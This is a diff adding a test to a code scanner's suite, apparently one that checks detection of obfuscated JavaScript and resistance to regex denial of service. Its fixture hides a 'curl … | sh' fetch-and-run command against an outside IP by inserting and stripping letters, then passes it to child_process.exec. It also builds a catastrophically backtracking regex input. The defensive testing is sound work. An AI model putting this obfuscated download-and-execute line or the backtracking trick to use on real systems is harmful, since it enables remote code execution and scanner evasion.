@@ -121,3 +121,20 @@ def test_raw_string_delimiters_are_counted_not_backtracked():
         except NotConstant:
             pass
     assert time.process_time() - start < 5.0  # the backreference pattern took 25 s for 8,000 quotes
+
+
+def test_a_js_regex_literal_is_folded_only_when_it_cannot_backtrack_polynomially():
+    from codescan.analyze.document import Analyzer
+    from codescan.config import Config
+    from codescan.records import Document
+    from codescan.rules import load_rules
+
+    analyzer = Analyzer(load_rules(), Config(honour_suppressions=False))
+    folded = b'const cp = require("child_process");\ncp.exec("cuQrl -s http://203.0.113.9/x | sQh".replace(/Q/g, ""));\n'
+    found = analyzer.analyze(Document(path="a.js", content=folded)).findings
+    assert any(f.severity in ("high", "critical") for f in found)  # one-quantifier-free pattern: still folded
+    hostile = (b'const s = "' + b"a" * 28 + b'".replace(/' + b"a*" * 20 + b'b/, "");\n'
+               b'require("child_process").exec(s);\n')
+    start = time.process_time()
+    analyzer.analyze(Document(path="r.js", content=hostile))
+    assert time.process_time() - start < 5.0  # twenty a* over 28 letters: the scan never ended
